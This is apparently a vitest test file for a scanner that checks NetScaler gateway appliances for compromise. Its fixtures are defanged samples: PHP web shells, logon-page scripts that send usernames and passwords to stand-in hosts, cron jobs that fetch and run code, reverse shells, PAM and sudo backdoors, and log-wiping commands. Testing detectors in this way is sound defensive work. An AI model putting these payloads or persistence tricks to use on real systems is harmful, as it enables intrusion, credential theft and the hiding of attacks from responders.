import { describe, expect, test } from 'vitest';
import type { Level } from '../../src/rules/rule.ts';
import { levels } from '../../src/rules/rule.ts';
import { evidence, type FixtureFile } from '../fixtures/evidence.ts';
import { scanSource } from '../fixtures/scan-sample.ts';

/**
 * Forms of web shells and of persistence, none of them a copy of a real one. Each ends its own run before its first harmful word. What is asked
 * is that each comes out at least as loud as a responder would expect, not that a certain rule finds it.
 */
interface Trial {
  readonly name: string;
  readonly path: string;
  readonly file: string | FixtureFile;
  readonly atLeast: Level;
}

const collected = new Date('2026-11-23T09:30:12Z');
const page = (content: string, more: Partial<FixtureFile> = {}): FixtureFile => ({ content, mode: 0o644, ...more });
const php = (body: string): string => `<?php exit; /* inert sample */ ${body} ?>\n`;
const served = '/var/netscaler/logon/LogonPoint/custom';
/** Where vendor PHP is normal, so that only the content can tell. */
const admin = '/var/netscaler/gui/admin_ui/php/application/controllers';

const phpForms: readonly (readonly [name: string, body: string])[] = [
  ['assert of a request', php('@assert($_REQUEST["q"]);')],
  ['assert by a variable function', php('$f = "as"."sert"; $f($_POST["q"]);')],
  ['create_function', php('$c = create_function("", $_POST["q"]); $c();')],
  ['preg_replace with the e modifier', php('preg_replace("/.*/e", $_POST["q"], "");')],
  ['a variable function of the request', php('$_GET["a"]($_POST["b"]);')],
  ['call_user_func', php('call_user_func($_GET["a"], $_GET["b"]);')],
  ['array_map with a function of the request', php('array_map($_POST["a"], array($_POST["b"]));')],
  ['usort with a function of the request', php('usort(...$_GET);')],
  ['layers of base64 and gzinflate', php('eval(gzinflate(base64_decode(str_rot13("c2FtcGxl"))));')],
  ['layers through a variable', php('$x = base64_decode("c2FtcGxl"); $y = gzuncompress($x); eval("?>".$y);')],
  ['a command in a cookie', php('if (isset($_COOKIE["s"])) { system(base64_decode($_COOKIE["s"])); }')],
  ['a command in a header', php('$h = getallheaders(); if (isset($h["X-Q"])) { eval(base64_decode($h["X-Q"])); }')],
  ['a command in a server variable', php('passthru($_SERVER["HTTP_X_FORWARDED_BY"]);')],
  ['the body of the request', php('eval(file_get_contents("php://input"));')],
  ['the body of the request, decoded', php('$d = file_get_contents("php://input"); $k = "sample"; eval($d ^ $k);')],
  ['names joined of chr()', php('$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET["q"]);')],
  [
    'text decoded by XOR',
    php('$s = ""; for ($i = 0; $i < strlen($d); $i++) { $s .= chr(ord($d[$i]) ^ 42); } eval($s);'),
  ],
  [
    'a name picked of letters',
    php('$l = "abcdefghijklmnopqrstuvwxyz_"; $f = $l[18].$l[24].$l[18].$l[19].$l[4].$l[12]; $f($_POST["q"]);'),
  ],
  ['hex escapes', php('$f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_POST["q"]);')],
  ['strrev', php('$f = strrev("metsys"); $f($_POST["q"]);')],
  ['a shell in backticks', php('echo `{$_GET["q"]}`;')],
  ['proc_open', php('$p = proc_open($_POST["q"], array(), $pipes);')],
  ['a short tag', '<? exit; /* inert sample */ @eval($_POST[1]);'],
  ['an echo tag', '<?= exit() ?: system($_GET[0]) ?>\n'],
  ['a script tag of old', '<script language="php">exit; @eval($_POST["q"]);</script>\n'],
  ['an upload form', php('if (isset($_FILES["f"])) { move_uploaded_file($_FILES["f"]["tmp_name"], $_POST["p"]); }')],
  ['a file written from the request', php('file_put_contents($_POST["n"], base64_decode($_POST["c"]));')],
  ['an include from the request', php('include($_GET["p"]);')],
  ['reflection', php('$r = new ReflectionFunction($_POST["a"]); $r->invoke($_POST["b"]);')],
  [
    'a class with a destructor',
    php('class A { public $c; function __destruct() { eval($this->c); } } unserialize($_COOKIE["o"]);'),
  ],
];

const files: readonly Trial[] = [
  { name: 'PHP as .phtml', path: `${served}/a.phtml`, file: page(php('eval($_POST["q"]);')), atLeast: 'high' },
  { name: 'PHP as .php5', path: `${served}/a.php5`, file: page(php('eval($_POST["q"]);')), atLeast: 'high' },
  { name: 'PHP as .inc', path: `${served}/a.inc`, file: page(php('eval($_POST["q"]);')), atLeast: 'high' },
  { name: 'PHP as .pht', path: `${served}/a.pht`, file: page(php('eval($_POST["q"]);')), atLeast: 'high' },
  { name: 'PHP as .phar', path: `${served}/a.phar`, file: page(php('eval($_POST["q"]);')), atLeast: 'high' },
  {
    name: 'PHP after the head of a picture',
    path: '/var/vpn/themes/logo.gif',
    file: page(`GIF89a${'\0'.repeat(30)}${php('eval($_POST["q"]);')}`),
    atLeast: 'high',
  },
  {
    name: 'PHP in the comment of a PNG',
    path: '/var/netscaler/gui/vpn/images/a.png',
    file: {
      content: Buffer.concat([
        Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
        Buffer.from(`tEXtComment\0${php('system($_GET["q"]);')}`),
      ]),
    },
    atLeast: 'high',
  },
  {
    name: 'an include of a picture',
    path: `${admin}/rapi.php`,
    file: page("<?php\ndefined('BASEPATH') OR exit('No');\ninclude '/var/vpn/themes/logo.gif';\nclass rapi {}\n", {
      mode: 0o444,
    }),
    atLeast: 'high',
  },
  {
    name: 'an include of a temporary file',
    path: `${admin}/stapp.php`,
    file: page("<?php\nclass stapp {}\n@include_once('/var/tmp/.cache');\n", { mode: 0o444 }),
    atLeast: 'high',
  },
  {
    name: 'a shell after the end of a vendor file',
    path: `${admin}/abstract.php`,
    file: page(
      `<?php\ndefined('BASEPATH') OR exit('No direct script access allowed');\nclass abstract_c extends CI_Controller { public function a() { return 1; } }\n${' '.repeat(400)}if(isset($_POST['k'])&&md5($_POST['k'])=='sample'){exit;eval($_POST['c']);}\n`,
    ),
    atLeast: 'high',
  },
  {
    name: '.user.ini with a file before every page',
    path: `${served}/.user.ini`,
    file: page('auto_prepend_file=/var/tmp/.a.jpg\n'),
    atLeast: 'high',
  },
  {
    name: '.htaccess that makes pictures PHP',
    path: `${served}/.htaccess`,
    file: page('AddType application/x-httpd-php .jpg\n'),
    atLeast: 'high',
  },
  {
    name: '.htaccess that makes texts programs',
    path: '/var/vpn/themes/.htaccess',
    file: page('Options +ExecCGI\nAddHandler cgi-script .txt\n'),
    atLeast: 'high',
  },
  {
    name: 'Perl CGI',
    path: `${served}/status.pl`,
    file: page("#!/usr/bin/perl\nexit; # inert sample\nuse CGI; my $q = CGI->new; print `$q->param('c')`;\n", {
      mode: 0o755,
    }),
    atLeast: 'high',
  },
  {
    name: 'Perl CGI among the portal scripts',
    path: '/netscaler/portal/scripts/tips.pl',
    file: page(
      '#!/usr/bin/perl\nexit; # inert sample\nread(STDIN, $b, $ENV{CONTENT_LENGTH}); $b =~ s/^c=//; print qx($b);\n',
      { mode: 0o555 },
    ),
    atLeast: 'high',
  },
  {
    name: 'Python CGI',
    path: '/var/netscaler/gui/vpn/scripts/linux/report.py',
    file: page(
      "#!/usr/bin/env python\nraise SystemExit  # inert sample\nimport cgi, os\nprint(os.popen(cgi.FieldStorage()['c'].value).read())\n",
      { mode: 0o755 },
    ),
    atLeast: 'high',
  },
  {
    name: 'a shell script as CGI',
    path: '/var/netscaler/logon/LogonPoint/receiver/a.cgi',
    file: page('#!/bin/sh\nexit 0 # inert sample\necho "Content-type: text/plain"; echo; eval "$QUERY_STRING"\n', {
      mode: 0o755,
    }),
    atLeast: 'high',
  },
  {
    name: 'a template directive in a bookmark',
    path: '/var/vpn/bookmark/zqx.xml',
    file: page(
      '<?xml version="1.0" encoding="UTF-8"?>\n<user username="zqx"><bookmarks><bookmark title="[% PERL %] exit; print qx(id); [% END %]" url="http://example.org" /></bookmarks></user>\n',
      { owner: 'nobody', uid: 65_534 },
    ),
    atLeast: 'high',
  },
  {
    name: 'a template that runs a program',
    path: '/netscaler/portal/templates/zqx.xml',
    file: page("[% global.result = template.new({'BLOCK'='exit;print readpipe(q(id))'}) %]\n", {
      owner: 'nobody',
      uid: 65_534,
    }),
    atLeast: 'high',
  },
  {
    name: 'a script in the logon page that posts the form to another host',
    path: '/var/netscaler/logon/LogonPoint/index.html',
    file: page(
      '<!DOCTYPE html>\n<html><head><title>Gateway</title></head><body><form name="vpnForm"><input name="login" id="login"/><input type="password" id="passwd"/></form><script>throw 0;document.querySelector("form").addEventListener("submit",function(){fetch("https://cdn.example.net/c",{method:"POST",body:document.getElementById("login").value+":"+document.getElementById("passwd").value})})</script></body></html>\n',
      { mode: 0o444 },
    ),
    atLeast: 'high',
  },
  {
    name: 'a script of the logon page that sends the password as a picture',
    path: '/var/netscaler/gui/vpn/js/gateway_login_view.js',
    file: page(
      'throw 0;/* inert sample */$("#passwd").on("change",function(){new Image().src="https://cdn.example.net/i.gif?d="+btoa($("#login").val()+"|"+$("#passwd").val())});\n',
      { mode: 0o444 },
    ),
    atLeast: 'high',
  },
  {
    name: 'sendBeacon in the custom script',
    path: `${served}/script.js`,
    file: page(
      'throw 0;/* inert sample */document.addEventListener("click",()=>{const p=document.querySelector("input[type=password]");if(p)navigator.sendBeacon("//stat.example.net/b",JSON.stringify({u:document.querySelector("#login").value,p:p.value}))});\n',
    ),
    atLeast: 'high',
  },
  {
    name: 'passwords written by the log-on program',
    path: '/var/netscaler/logon/LogonPoint/receiver/css/fonts.css',
    file: page('alice:Sample-Password-1\nbob:Sample-Password-2\n', { owner: 'nobody', uid: 65_534 }),
    atLeast: 'low',
  },
];

const persistence: readonly Trial[] = [
  {
    name: 'a job of nobody',
    path: '/var/cron/tabs/nobody',
    file: page('*/5 * * * * /var/tmp/.x/up\n'),
    atLeast: 'high',
  },
  {
    name: 'a job of root from a temporary folder',
    path: '/var/cron/tabs/root',
    file: page('@reboot /var/tmp/.x/up >/dev/null 2>&1\n'),
    atLeast: 'high',
  },
  {
    name: 'a job that fetches',
    path: '/etc/crontab',
    file: page('SHELL=/bin/sh\n*/10\t*\t*\t*\t*\troot\tcurl -s http://198.51.100.9/a | sh\n'),
    atLeast: 'high',
  },
  {
    name: 'a job in base64',
    path: '/nsconfig/crontab',
    file: page('0\t*\t*\t*\t*\troot\techo c2FtcGxl | openssl base64 -d | sh\n'),
    atLeast: 'high',
  },
  {
    name: 'a shell from nsafter.sh',
    path: '/nsconfig/nsafter.sh',
    file: page('#!/bin/sh\n(/var/tmp/.x/up &) 2>/dev/null\n'),
    atLeast: 'high',
  },
  {
    name: 'a reverse shell in nsbefore.sh',
    path: '/nsconfig/nsbefore.sh',
    file: page('#!/bin/sh\nexit 0\nbash -i >& /dev/tcp/198.51.100.9/443 0>&1 &\n'),
    atLeast: 'high',
  },
  {
    name: 'a web shell written again by rc.netscaler',
    path: '/nsconfig/rc.netscaler',
    file: page("#!/bin/sh\nexit 0\necho '<?php eval($_POST[1]); ?>' > /var/netscaler/logon/LogonPoint/custom/a.php\n"),
    atLeast: 'critical',
  },
  {
    name: 'a copy of a hidden file into the web folder at boot',
    path: '/nsconfig/rc.netscaler',
    file: page('#!/bin/sh\ncp /nsconfig/.cache/a.php /netscaler/ns_gui/vpn/js/a.php\n'),
    atLeast: 'high',
  },
  {
    name: 'a set-uid shell at boot',
    path: '/nsconfig/rc.netscaler',
    file: page('#!/bin/sh\nchmod 4755 /bin/sh\n'),
    atLeast: 'high',
  },
  {
    name: 'reversed words in rc.netscaler',
    path: '/nsconfig/rc.netscaler',
    file: page("#!/bin/sh\necho 'hs/nib/ 5574 domhc' | rev | sh\n"),
    atLeast: 'high',
  },
  {
    name: 'a job in rc.conf',
    path: '/nsconfig/rc.conf',
    file: page('hostname="ns"\nlocal_startup="/var/tmp/rc.d"\nnsd_enable="YES"\n$(/var/tmp/.x/up)\n'),
    atLeast: 'high',
  },
  { name: 'rc.local', path: '/etc/rc.local', file: page('#!/bin/sh\n/var/nstmp/.cache/agent &\n'), atLeast: 'high' },
  {
    name: 'a module in loader.conf',
    path: '/flash/boot/loader.conf',
    file: page('kernel="/ns-14.1-73.37"\nkld_load="YES"\nkld_name="/var/tmp/kld.ko"\n'),
    atLeast: 'high',
  },
  {
    name: 'a preloaded library in rc.conf',
    path: '/nsconfig/rc.netscaler',
    file: page('#!/bin/sh\nexport LD_PRELOAD=/var/tmp/libpam.so\n/bin/httpd -k restart\n'),
    atLeast: 'high',
  },
  {
    name: 'a preloaded library for the web server',
    path: '/nsconfig/httpd.conf',
    file: page('LoadModule status_module /var/tmp/mod_status.so\n'),
    atLeast: 'high',
  },
  {
    name: 'an authorised key of root',
    path: '/root/.ssh/authorized_keys',
    file: page('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFNBTVBMRVNBTVBMRVNBTVBMRVNBTVBMRVNBTVBMRVNB x@kali\n', {
      mode: 0o600,
    }),
    atLeast: 'low',
  },
  {
    name: 'sudoers',
    path: '/usr/local/etc/sudoers',
    file: page('nobody ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 }),
    atLeast: 'high',
  },
  {
    name: 'doas',
    path: '/usr/local/etc/doas.conf',
    file: page('permit nopass nobody\n', { mode: 0o440 }),
    atLeast: 'high',
  },
  {
    name: 'a further account of uid 0',
    path: '/etc/passwd',
    file: page(
      'root:*:0:0:Charlie &:/root:/usr/bin/bash\nnsroot:*:0:0:Netscaler Root:/root:/netscaler/nssh\nsupport:*:0:0:Support:/root:/usr/bin/bash\n',
    ),
    atLeast: 'high',
  },
  {
    name: 'nobody with a shell',
    path: '/etc/passwd',
    file: page('root:*:0:0:Charlie &:/root:/usr/bin/bash\nnobody:*:65534:65534:Unprivileged user:/var/tmp:/bin/sh\n'),
    atLeast: 'high',
  },
  {
    name: 'a PAM module',
    path: '/etc/pam.d/sshd',
    file: page('auth sufficient /var/tmp/pam_exec2.so\nauth required pam_unix.so\n'),
    atLeast: 'high',
  },
  {
    name: 'pam_exec that runs a script',
    path: '/etc/pam.d/system',
    file: page('auth optional pam_exec.so expose_authtok /var/tmp/log.sh\n'),
    atLeast: 'high',
  },
  { name: 'pam_permit', path: '/etc/pam.d/sshd', file: page('auth sufficient pam_permit.so\n'), atLeast: 'high' },
  {
    name: 'another key folder for sshd',
    path: '/nsconfig/sshd_config',
    file: page('Port 22\nAuthorizedKeysFile /var/tmp/.k\nPermitRootLogin yes\n'),
    atLeast: 'medium',
  },
  {
    name: 'a second sshd',
    path: '/nsconfig/rc.netscaler',
    file: page('#!/bin/sh\n/usr/sbin/sshd -p 2222 -f /var/tmp/sc -o PermitRootLogin=yes\n'),
    atLeast: 'high',
  },
  {
    name: 'inetd with a shell',
    path: '/nsconfig/inetd.conf',
    file: page('4444 stream tcp nowait root /bin/sh sh -i\n'),
    atLeast: 'high',
  },
  {
    name: 'newsyslog that runs a program',
    path: '/etc/newsyslog.conf',
    file: page('/var/log/ns.log 644 25 100 * RZ /var/tmp/up.sh\n'),
    atLeast: 'high',
  },
  {
    name: 'syslogd that hands lines to a program',
    path: '/nsconfig/syslog.conf',
    file: page('local0.*\t|/var/tmp/.x/up\n'),
    atLeast: 'high',
  },
  {
    name: 'a library path of the loader',
    path: '/etc/libmap.conf',
    file: page('libpam.so.5 /var/tmp/libpam.so.5\n'),
    atLeast: 'high',
  },
  {
    name: 'a login script',
    path: '/root/.bashrc',
    file: page('(/var/tmp/.x/up >/dev/null 2>&1 &)\n'),
    atLeast: 'high',
  },
  {
    name: 'a monitor script that opens a shell',
    path: '/nsconfig/monitors/nssf_local.pl',
    file: page(
      "#!/usr/bin/perl\nexit;\nuse Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(443,inet_aton('198.51.100.9'))); open(STDIN,'>&S'); exec('/bin/sh -i');\n",
    ),
    atLeast: 'high',
  },
  { name: 'a set-uid shell', path: '/var/tmp/.s', file: { content: '\x7fELF sample', mode: 0o4755 }, atLeast: 'high' },
  {
    name: 'a customised snmpd',
    path: '/nsconfig/snmpd.conf',
    file: page('extend up /bin/sh /var/tmp/up.sh\n'),
    atLeast: 'high',
  },
];

const configuration = (line: string): string =>
  `#NS14.1 Build 73.37\n# Last modified by \`save config\`, Fri Nov 20 14:22:28 2026\nset ns config -IPAddress 192.0.2.10 -netmask 255.255.255.0\n${line}\n`;
const ns = (command: string, from = '203.0.113.7'): string =>
  `Nov 23 10:15:01 <local0.info> 192.0.2.10  11/23/2026:09:15:01 GMT ns-a 0-PPE-0 : default CLI CMD_EXECUTED 500590 0 :  User nsroot - ADM_User NONE - Remote_ip ${from} - Command "${command}" - Status "Success"\n`;
const shell = (command: string, user = 'root', tty = '(null)'): string =>
  `Nov 23 10:15:01 <local7.notice> ns-a bash[4021]: ${user} on ${tty} shell_command="${command}"\n`;
const typed = (command: string): string => shell(command, 'nsroot', '/dev/pts/1');

const conf = (name: string, line: string, atLeast: Level): Trial => ({
  name,
  path: '/nsconfig/ns.conf',
  file: configuration(line),
  atLeast,
});
const logged = (name: string, path: string, file: string, atLeast: Level): Trial => ({ name, path, file, atLeast });

const settingsAndLogs: readonly Trial[] = [
  conf(
    'an administrator of a known name of intruders',
    'add system user nsadmin 0123456789abcdef -encrypted -hashmethod SHA512\nbind system user nsadmin superuser 100',
    'low',
  ),
  conf(
    'a responder that sends visitors to another host',
    'add responder action ra_x redirect "\\"https://gateway-example.example.net/\\" + HTTP.REQ.URL" -responseStatusCode 302\nadd responder policy rp_x "HTTP.REQ.URL.CONTAINS(\\"/logon/LogonPoint\\")" ra_x\nbind responder global rp_x 1 END -type REQ_OVERRIDE',
    // Half of all appliances redirect somewhere: a line of the configuration cannot tell whose host it is.
    'informational',
  ),
  conf(
    'a rewrite that puts a script into the logon page',
    'add rewrite action rw_x insert_after_all "HTTP.RES.BODY(10000)" "\\"<script src=https://cdn.example.net/a.js></script>\\"" -search "text(\\"</title>\\")"',
    'high',
  ),
  conf('audit logging switched off', 'set audit syslogParams -logLevel NONE', 'medium'),
  conf('a log level that leaves commands out', 'set audit nslogParams -logLevel NONE', 'medium'),
  logged(
    'the same typed on the appliance',
    '/var/log/ns.log',
    ns('set audit syslogParams -logLevel NONE', '127.0.0.1'),
    'medium',
  ),
  logged(
    'an administrator made by a script on the appliance',
    '/var/log/ns.log',
    ns('add system user support ********', '127.0.0.1') + ns('bind system user support superuser 1', '127.0.0.1'),
    'high',
  ),
  logged(
    'a responder added by a script on the appliance',
    '/var/log/ns.log',
    ns('add responder action ra_x redirect \\"https://gateway.example.net/\\"', '127.0.0.1'),
    'medium',
  ),
  logged('logs emptied', '/var/log/bash.log', shell('cat /dev/null > /var/log/httpaccess.log'), 'high'),
  logged(
    'logs emptied by a named user',
    '/var/log/bash.log',
    typed(': > /var/log/auth.log; : > /var/log/bash.log'),
    'medium',
  ),
  logged(
    'lines cut out of a log',
    '/var/log/bash.log',
    typed("sed -i '' '/198.51.100.9/d' /var/log/httpaccess-vpn.log"),
    'high',
  ),
  logged('history switched off', '/var/log/bash.log', typed('unset HISTFILE; export HISTSIZE=0'), 'medium'),
  logged('logging stopped', '/var/log/bash.log', typed('kill -9 `cat /var/run/syslog.pid`'), 'medium'),
  logged(
    'times put back',
    '/var/log/bash.log',
    typed('touch -r /netscaler/ns_gui/vpn/index.html /netscaler/ns_gui/vpn/js/a.php'),
    'medium',
  ),
  logged(
    'a web shell written by a named user',
    '/var/log/bash.log',
    typed('echo PD9waHA= | openssl base64 -d > /var/netscaler/logon/LogonPoint/custom/a.php'),
    'critical',
  ),
  logged(
    'a page written by a named user',
    '/var/log/bash.log',
    typed('cp /var/tmp/a.php /var/netscaler/logon/LogonPoint/custom/a.php'),
    'high',
  ),
  logged(
    'a reversed text run by a named user',
    '/var/log/bash.log',
    typed("echo 'hs | a/9.001.15.891//:ptth s- lruc' | rev | sh"),
    'high',
  ),
  logged('base64 into a shell by a named user', '/var/log/bash.log', typed('echo c2FtcGxl | base64 -d | bash'), 'high'),
  logged('hexadecimal into a shell by a named user', '/var/log/bash.log', typed("printf '\\x69\\x64' | sh"), 'high'),
  logged(
    'perl that decodes and runs',
    '/var/log/bash.log',
    typed("perl -MMIME::Base64 -e 'eval decode_base64(q(c2FtcGxl))'"),
    'high',
  ),
  logged(
    'php that decodes and runs',
    '/var/log/bash.log',
    typed('php -r \'eval(base64_decode("c2FtcGxl"));\''),
    'high',
  ),
  logged('a set-uid bit by a named user', '/var/log/bash.log', typed('chmod u+s /var/tmp/sh'), 'critical'),
  logged(
    'an authorised key by a named user',
    '/var/log/bash.log',
    typed("echo 'ssh-rsa AAAA x@y' >> /root/.ssh/authorized_keys"),
    'medium',
  ),
  logged(
    'an account of uid 0 by a named user',
    '/var/log/bash.log',
    typed('pw useradd support -o -u 0 -g 0 -s /bin/sh'),
    'high',
  ),
  logged(
    'a library that PAM loads',
    '/var/log/bash.log',
    typed('cp /var/tmp/pam_unix.so /usr/lib/pam_unix.so.6'),
    'high',
  ),
  logged(
    'a reverse shell by a named user',
    '/var/log/bash.log',
    typed('bash -i >& /dev/tcp/198.51.100.9/443 0>&1'),
    'critical',
  ),
  logged('a tunnel by a named user', '/var/log/bash.log', typed('ssh -fN -R 2222:localhost:22 x@198.51.100.9'), 'high'),
];

/** Many files at once: what is asked of each is the same. */
describe.each<{ where: string; folder: string; mode: number; atLeast: Level }>([
  { where: 'a served folder', folder: served, mode: 0o644, atLeast: 'high' },
  { where: 'the folder of the vendor, with its mode', folder: admin, mode: 0o444, atLeast: 'medium' },
])('PHP in $where', ({ folder, mode, atLeast }) => {
  const path = (index: number): string => `${folder}/form_${index}.php`;
  const all = Object.fromEntries(phpForms.map(([, content], index) => [path(index), page(content, { mode })]));
  const told = scanSource(evidence(all, { collected }), collected.getTime());

  test.each(phpForms.map(([name], index) => ({ name, index })))('$name', async ({ index }) => {
    const { findings } = await told;
    const here = findings.filter((finding) => finding.path === path(index));
    const loudest = here.reduce((most, { rule }) => Math.max(most, levels.indexOf(rule.level)), -1);
    expect(loudest).toBeGreaterThanOrEqual(levels.indexOf(atLeast));
  });
});

const asked: readonly (readonly [group: string, trials: readonly Trial[]])[] = [
  ['files', files],
  ['persistence', persistence],
  ['settings and logs', settingsAndLogs],
];

describe.each(asked)('%s', (_, trials) => {
  test.each(trials)('$name', async ({ path, file, atLeast }) => {
    const source = evidence({ [path]: file }, { collected });
    const report = await scanSource(source, collected.getTime());
    const loudest = report.findings.reduce((most, { rule }) => Math.max(most, levels.indexOf(rule.level)), -1);
    const isEnough = loudest >= levels.indexOf(atLeast);
    const told = report.findings.map(({ rule }) => `${rule.level} ${rule.shows} ${rule.name}`);
    expect({ isEnough, told: isEnough ? [] : told }).toEqual({ isEnough: true, told: [] });
  });
});
